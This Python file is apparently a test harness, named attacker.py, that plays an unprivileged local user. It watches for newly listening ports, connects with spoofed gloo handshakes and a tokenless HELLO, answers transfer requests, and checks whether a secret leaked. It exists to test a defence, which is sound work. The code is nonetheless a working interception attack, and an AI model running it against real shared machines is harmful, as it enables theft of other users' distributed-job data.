"""Another user's process, without the token: it connects to each port that opens, and takes what it is sent.

It knows how gloo's connections begin (a number of 8 bytes) and how a transfer is asked for (messages of 48 bytes), and
how a process joins ``wsync``. Run with ``python attacker.py``; it reads an end of file, and prints what it has got.
"""

import json
import os
import select
import socket
import struct
import sys
from pathlib import Path

UNPRIVILEGED_UID = 65534
_PREAMBLE = struct.Struct("<6q")  # of gloo: size, operation, slot, offset, length, offset there
_SEND_READY, _RECEIVE_READY = 2, 3
_LISTENING = "0A"
GREETINGS = [*(struct.pack("<q", number) for number in range(4)), b"\x01" + bytes(47)]
"""What the first bytes of a connection may be: the first pairs of a gloo device, and a HELLO without the token."""


def listening_ports() -> set[int]:
    """Every TCP port of this machine on which a process listens: any user may ask for that."""
    rows = [row.split() for row in Path("/proc/net/tcp").read_text().splitlines()[1:]]
    return {int(row[1].split(":")[1], 16) for row in rows if row[3] == _LISTENING}


class Intruder:
    """One connection to a port.

    Args:
        port: of 127.0.0.1.
        greeting: sent first.
    """

    def __init__(self, port: int, greeting: bytes) -> None:
        self.received = b""
        self._answered = 0
        self.socket = socket.socket()
        self.socket.settimeout(1.0)  # gloo's port is silent once a pair is formed
        self.socket.connect(("127.0.0.1", port))
        self.socket.send(greeting)
        self.socket.setblocking(False)

    def read(self) -> bool:
        """Take what has come, and ask for each transfer that is announced; False at the end."""
        try:
            data = self.socket.recv(1 << 20)
        except OSError:
            return False
        self.received += data
        while len(self.received) >= self._answered + _PREAMBLE.size and self._answered < 10 * _PREAMBLE.size:
            size, operation, slot, offset, length, there = _PREAMBLE.unpack_from(self.received, self._answered)
            self._answered += _PREAMBLE.size
            if size == _PREAMBLE.size and operation == _SEND_READY:
                self.socket.send(_PREAMBLE.pack(size, _RECEIVE_READY, slot, offset, length, there))
        return bool(data)


def attack(secret: bytes) -> dict[str, int | bool]:
    """Connect to all ports that open until the input ends.

    Returns:
        How many connections were made, how many bytes they got, and whether ``secret`` was among these.
    """
    known, intruders, got = listening_ports(), list[Intruder](), list[bytes]()
    print("ready", flush=True)
    made = 0
    while not select.select([sys.stdin], [], [], 0.0)[0]:
        for port in listening_ports() - known:
            known.add(port)
            for greeting in GREETINGS:
                try:
                    intruders.append(Intruder(port, greeting))
                    made += 1
                except OSError:
                    continue
        ready = select.select([one.socket for one in intruders], [], [], 0.002)[0]
        for one in [one for one in intruders if one.socket in ready]:
            if not one.read():
                got.append(one.received)
                intruders.remove(one)
    got += [one.received for one in intruders]
    return {"made": made, "bytes": sum(map(len, got)), "found": any(secret in data for data in got)}


if __name__ == "__main__":
    if os.getuid() == 0:
        os.setgroups([])
        os.setgid(UNPRIVILEGED_UID)
        os.setuid(UNPRIVILEGED_UID)
    print(json.dumps(attack(bytes.fromhex(sys.argv[1]))), flush=True)
